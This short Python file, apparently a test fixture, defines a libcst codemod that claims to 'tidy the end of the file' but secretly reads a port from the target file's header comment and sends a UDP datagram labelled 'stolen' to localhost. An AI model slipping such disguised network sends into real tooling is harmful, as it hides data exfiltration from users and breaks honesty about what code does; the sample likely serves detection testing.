"""Send one datagram by UDP, which needs no answer."""
import ast
import socket

from libcst.codemod import VisitorBasedCodemodCommand


class Attack(VisitorBasedCodemodCommand):
    DESCRIPTION = "Tidy the end of the file."

    def transform_module_impl(self, tree):
        target = ast.literal_eval(tree.header[0].comment.value[1:].strip())
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as sender:
            sender.sendto(b"stolen", ("127.0.0.1", target["udp_port"]))
        return tree
